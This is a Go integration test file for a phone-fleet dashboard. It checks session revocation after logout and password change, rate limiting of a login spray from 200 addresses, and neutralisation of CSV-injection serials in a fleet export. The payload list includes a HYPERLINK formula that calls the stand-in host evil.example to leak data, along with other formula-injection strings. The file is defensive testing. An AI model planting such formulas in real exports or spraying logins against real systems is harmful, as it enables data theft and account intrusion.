package appliance

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

// These tests run the real `tanjay serve` against what an anonymous client
// on the lab switch can do to the dashboard: plant spreadsheet formulas in
// fleet.csv, replay a session after logout or a password change, spray
// failed logins from many addresses.

// dashClient talks to a dashboard the way a browser does, from one source
// address, following no redirects; the cookie is set by hand so that it
// outlives a restart on another port.
type dashClient struct {
	t    *testing.T
	base string
	http *http.Client
}

func newDashClient(t *testing.T, dashAddr, fromIP string) *dashClient {
	tr := &http.Transport{DisableKeepAlives: true}
	if fromIP != "" {
		d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(fromIP)}, Timeout: 30 * time.Second}
		tr.DialContext = d.DialContext
	}
	return &dashClient{t: t, base: "http://" + dashAddr, http: &http.Client{Transport: tr, Timeout: time.Minute,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
}

func (c *dashClient) do(method, path, cookie string, form url.Values) (*http.Response, string) {
	c.t.Helper()
	var body io.Reader
	if form != nil {
		body = strings.NewReader(form.Encode())
	}
	req, err := http.NewRequest(method, c.base+path, body)
	if err != nil {
		c.t.Fatal(err)
	}
	if form != nil {
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	if cookie != "" {
		req.Header.Set("Cookie", cookie)
	}
	resp, err := c.http.Do(req)
	if err != nil {
		c.t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, string(b)
}

// tryLogin posts password with a login-form token of its own making (the
// form's CSRF check is a double-submit cookie) and returns the response.
func (c *dashClient) tryLogin(password string) *http.Response {
	c.t.Helper()
	resp, _ := c.do("POST", "/login", "tanjay_login=spray", url.Values{"csrf": {"spray"}, "password": {password}, "next": {"/"}})
	return resp
}

// login returns the session cookie ("tanjay_session=…") and the CSRF
// token of its forms.
func (c *dashClient) login(password string) (cookie, csrfToken string) {
	c.t.Helper()
	resp := c.tryLogin(password)
	for _, ck := range resp.Cookies() {
		if ck.Name == "tanjay_session" && ck.Value != "" {
			cookie = ck.Name + "=" + ck.Value
		}
	}
	if resp.StatusCode != http.StatusSeeOther || cookie == "" {
		c.t.Fatalf("login: %s to %q, no session cookie", resp.Status, resp.Header.Get("Location"))
	}
	_, body := c.do("GET", "/", cookie, nil)
	m := regexp.MustCompile(`name="csrf" value="([^"]+)"`).FindStringSubmatch(body)
	if m == nil {
		c.t.Fatal("the fleet page of a logged-in operator has no CSRF token")
	}
	return cookie, m[1]
}

// loggedIn reports whether the dashboard takes cookie as a session.
func (c *dashClient) loggedIn(cookie string) bool {
	c.t.Helper()
	_, body := c.do("GET", "/", cookie, nil)
	return strings.Contains(body, "Log out")
}

// addTestDevice is an operator change made with cookie and csrf; it returns
// the status (303 done, 403 refused).
func (c *dashClient) addTestDevice(cookie, csrf, id string) int {
	c.t.Helper()
	resp, _ := c.do("POST", "/testdevices/add", cookie, url.Values{"csrf": {csrf}, "id": {id}})
	return resp.StatusCode
}

func TestServeLogoutSurvivesRestart(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and runs the tanjay binary")
	}
	data := t.TempDir()
	t.Setenv("TANJAY_ADMIN_PASSWORD", "first-Pa55word")
	srv := startServe(t, data)
	c := newDashClient(t, srv.addrs.Dashboard, "")
	ended, endedCSRF := c.login("first-Pa55word")
	kept, keptCSRF := c.login("first-Pa55word")
	if resp, _ := c.do("POST", "/logout", ended, url.Values{"csrf": {endedCSRF}}); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("logout: %s", resp.Status)
	}
	if c.loggedIn(ended) || !c.loggedIn(kept) {
		t.Fatalf("before the restart: logged-out session accepted %v, other session accepted %v; want false, true", c.loggedIn(ended), c.loggedIn(kept))
	}

	srv.kill() // SIGKILL: the logout must already be on disk
	srv = startServe(t, data)
	c = newDashClient(t, srv.addrs.Dashboard, "")
	if c.loggedIn(ended) {
		t.Error("after a restart the logged-out session is accepted")
	}
	if code := c.addTestDevice(ended, endedCSRF, "SN-REPLAYED"); code != http.StatusForbidden {
		t.Errorf("operator change with the logged-out session after a restart: %d, want 403", code)
	}
	if !c.loggedIn(kept) {
		t.Error("after a restart a session that was not logged out is refused")
	}
	if code := c.addTestDevice(kept, keptCSRF, "SN-KEPT"); code != http.StatusSeeOther {
		t.Errorf("operator change with the kept session: %d, want 303", code)
	}
	devices := srv.tanjay(t, "testdevice", "ls")
	if strings.Contains(devices, "SN-REPLAYED") || !strings.Contains(devices, "SN-KEPT") {
		t.Errorf("test devices after the replay:\n%s\nwant SN-KEPT and not SN-REPLAYED", devices)
	}
}

func TestServePasswordChangeEndsSessions(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and runs the tanjay binary")
	}
	data := t.TempDir()
	t.Setenv("TANJAY_ADMIN_PASSWORD", "old-Pa55word")
	srv := startServe(t, data)
	c := newDashClient(t, srv.addrs.Dashboard, "")
	old, oldCSRF := c.login("old-Pa55word")
	srv.interrupt(t)

	// The same password again: the session lives on.
	srv = startServe(t, data)
	c = newDashClient(t, srv.addrs.Dashboard, "")
	if !c.loggedIn(old) {
		t.Fatal("a restart with the same password ended the session")
	}
	srv.interrupt(t)

	t.Setenv("TANJAY_ADMIN_PASSWORD", "new-Pa55word")
	srv = startServe(t, data)
	c = newDashClient(t, srv.addrs.Dashboard, "")
	if c.loggedIn(old) {
		t.Error("a session from before the password change is accepted")
	}
	if code := c.addTestDevice(old, oldCSRF, "SN-OLD-SESSION"); code != http.StatusForbidden {
		t.Errorf("operator change with a session from before the password change: %d, want 403", code)
	}
	if resp := c.tryLogin("old-Pa55word"); resp.StatusCode != http.StatusSeeOther || !strings.Contains(resp.Header.Get("Location"), "err=") {
		t.Errorf("login with the old password: %s to %q, want 303 back to the login with an error", resp.Status, resp.Header.Get("Location"))
	}
	fresh, _ := c.login("new-Pa55word")
	if !c.loggedIn(fresh) {
		t.Error("a session under the new password is refused")
	}
}

// The dashboard's login limits (appliance/dashboard/limiter.go): the
// shared bucket of failed logins all clients draw from.
const (
	sprayGlobalBurst  = 20
	sprayGlobalRefill = 3 * time.Second
	sprayClientBurst  = 5
	sprayClientRefill = 12 * time.Second
)

// TestServeLoginSprayHitsLimit sends failed logins from 200 loopback
// addresses, one each (every address on its own is under its limit), and
// counts the refusals; a client limited before the spray is still limited
// after it. The server keeps answering phones.
func TestServeLoginSprayHitsLimit(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and runs the tanjay binary")
	}
	t.Setenv("TANJAY_ADMIN_PASSWORD", "spray-Pa55word")
	srv := startServe(t, t.TempDir())
	start := time.Now()
	const limited = "127.0.0.250"
	lc := newDashClient(t, srv.addrs.Dashboard, limited)
	for i := range sprayClientBurst + 1 {
		if resp := lc.tryLogin("guess"); (resp.StatusCode == http.StatusTooManyRequests) != (i == sprayClientBurst) {
			t.Fatalf("attempt %d from %s: %s", i+1, limited, resp.Status)
		}
	}

	const addrs = 200
	var allowed, refused int
	for i := range addrs {
		from := fmt.Sprintf("127.0.%d.%d", 1+i/200, 2+i%200)
		switch code := newDashClient(t, srv.addrs.Dashboard, from).tryLogin("guess").StatusCode; code {
		case http.StatusSeeOther:
			allowed++
		case http.StatusTooManyRequests:
			refused++
		default:
			t.Fatalf("login from %s: %d", from, code)
		}
	}
	elapsed := time.Since(start)
	// At most what the limited client left of the shared burst, and one
	// more per refill interval since its first attempt.
	most := sprayGlobalBurst - sprayClientBurst + int(elapsed/sprayGlobalRefill) + 1
	t.Logf("spray from %d addresses, %v after the first attempt: %d allowed, %d refused (at most %d may pass)", addrs, elapsed.Round(time.Millisecond), allowed, refused, most)
	if allowed > most || refused < addrs-most {
		t.Errorf("%d of %d sprayed logins were tried, want at most %d", allowed, addrs, most)
	}

	if resp := lc.tryLogin("guess"); resp.StatusCode != http.StatusTooManyRequests {
		if elapsed < sprayClientRefill {
			t.Errorf("after the spray %s is allowed to try again: %s, want 429", limited, resp.Status)
		} else {
			t.Logf("the spray took %v, longer than one per-client refill: %s may have earned an attempt", elapsed, limited)
		}
	}
	if offered, _ := checkIn(t, srv.addrs.HTTP, "CX700", "00049F0000E1", "SN-E1", "1.0.199.0"); offered != "" {
		t.Errorf("offered %q with no firmware imported", offered)
	}
}

// csvPayloads are OWASP's CSV-injection examples, sent as a phone's serial,
// and the cell fleet.csv must hold (the check-in parser trims surrounding
// white space, so the tab and CR arrive as "=1").
var csvPayloads = []struct{ sent, exported string }{
	{`=HYPERLINK("http://evil.example/?leak","click")`, `'=HYPERLINK("http://evil.example/?leak","click")`},
	{"+1", "'+1"},
	{"-2+3", "'-2+3"},
	{"@SUM(1)", "'@SUM(1)"},
	{"\t=1", "'=1"},
	{"\r=1", "'=1"},
	{"x;=1+1", "x;=1+1"}, // quoted, so a spreadsheet splitting at ";" keeps it one cell
}

// TestServeFleetCSVNeutralisesPhoneStrings: serials an anonymous client
// sends in check-ins come out of fleet.csv prefixed with ' (neutralised),
// and the OCS audit log keeps them byte for byte.
func TestServeFleetCSVNeutralisesPhoneStrings(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and runs the tanjay binary")
	}
	srv := startServe(t, t.TempDir())
	macOf := func(i int) string { return fmt.Sprintf("00049F0000%02X", 0xC0+i) }
	for i, p := range csvPayloads {
		postCheckInWithSerial(t, srv.addrs.HTTP, macOf(i), p.sent)
	}
	resp, err := http.Get("http://" + srv.addrs.Dashboard + "/export/fleet.csv")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read fleet.csv: %v\n%s", err, body)
	}
	serials := map[string]string{}
	for _, r := range records[1:] {
		serials[r[1]] = r[2]
		for _, cell := range r {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("fleet.csv row %s: cell %q starts a formula", r[0], cell)
			}
		}
	}
	for i, p := range csvPayloads {
		if got := serials[macOf(i)]; got != p.exported {
			t.Errorf("serial %q: fleet.csv has %q, want %q", p.sent, got, p.exported)
		}
	}
	if !bytes.Contains(body, []byte(`"x;=1+1"`)) {
		t.Errorf("a serial with a semicolon is not quoted:\n%s", body)
	}
	// The server still answers phones.
	checkIn(t, srv.addrs.HTTP, "CX700", "00049F0000D1", "SN-D1", "1.0.199.0")

	srv.interrupt(t) // flushes the audit log
	files, _ := filepath.Glob(filepath.Join(srv.data, "logs", "audit", "RequestHandlerAuditLog_e2e_*.csv"))
	if len(files) != 1 {
		t.Fatalf("audit files: %v", files)
	}
	audit, err := os.ReadFile(files[0])
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range csvPayloads {
		verbatim := `"` + strings.ReplaceAll(strings.TrimSpace(p.sent), `"`, `""`) + `"`
		if !bytes.Contains(audit, []byte(`,`+verbatim+`,`)) {
			t.Errorf("the audit log lacks the serial %q as the phone sent it (%s)", p.sent, verbatim)
		}
	}
}

// postCheckInWithSerial checks in a beta CX700 whose serial is serial,
// XML-escaped, and wants 200.
func postCheckInWithSerial(t *testing.T, httpAddr, mac, serial string) {
	t.Helper()
	var esc strings.Builder
	xml.EscapeText(&esc, []byte(serial))
	body := fmt.Sprintf(`<?xml version="1.0" encoding="utf-8"?><Request><DeviceType>UCPhone</DeviceType><MacAddress>%s</MacAddress><SerialNumber>%s</SerialNumber><Vendor>Polycom</Vendor><Model>CX700</Model><Revision>A</Revision><Locale>ENU</Locale><RequestTime>04.05.2009 07:30:04</RequestTime><Modules><Module><FileName>cpe.nbt</FileName><Version>1.0.199.0</Version><TimeStamp>01.01.1601 00:00:00</TimeStamp></Module></Modules></Request>`,
		mac, esc.String())
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, "POST", "http://"+httpAddr+"/RequestHandler/ucdevice.upx", strings.NewReader(body))
	req.Header.Set("Content-Type", "text/xml")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if b, _ := io.ReadAll(resp.Body); resp.StatusCode != http.StatusOK {
		t.Fatalf("check-in with serial %q: %s: %s", serial, resp.Status, b)
	}
}
